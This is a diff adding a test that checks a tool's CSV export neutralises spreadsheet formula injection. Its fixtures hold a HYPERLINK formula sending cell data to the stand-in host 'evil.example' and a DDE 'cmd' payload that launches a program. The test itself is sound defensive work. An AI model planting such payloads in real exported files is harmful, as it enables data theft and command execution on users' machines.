@@ -199,3 +199,24 @@ def test_nhs_number_like_keys_and_file_names_never_reach_an_output(
     assert "******5910~" in texts["stg_spend.transaction_id"] and "spend_******5999~" in texts["files.file_name"]
     leaks = {name: _raw_nhs(text) for name, text in {**texts, "console": said}.items() if _raw_nhs(text)}
     assert leaks == {}
+
+
+# ---- d. `bcf why --format csv` is CSV-safe ---------------------------------------------------------------------
+
+def test_why_csv_quotes_formula_payloads_and_keeps_numbers() -> None:
+    import csv
+    import io
+
+    from bcf.why import Answer, render
+
+    answers = [
+        Answer("spend_x.csv", 2, '=HYPERLINK("http://evil.example/?"&A1,"click")', "spend", "counted",
+               counted=[("df.spend.fortnight", "-12.50"), ("df.spend.to_date", "+3")]),
+        Answer("spend_x.csv", 3, "@SUM(1+1)*cmd|' /C calc'!A0", "spend", "not counted", note="-2+3+cmd"),
+        Answer("spend_x.csv", 4, "+44 20", "spend", "not counted", note="\tTAB"),
+    ]
+    rows = list(csv.reader(io.StringIO(render(answers, "csv"))))
+    cells = [c for r in rows[1:] for c in r]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c not in ("-12.50", "+3")]
+    assert rows[1][2] == "'" + answers[0].key and rows[1][6] == "-12.50" and rows[2][6] == "+3"
+    assert rows[3][2] == "'@SUM(1+1)*cmd|' /C calc'!A0" and rows[3][9] == "'-2+3+cmd"
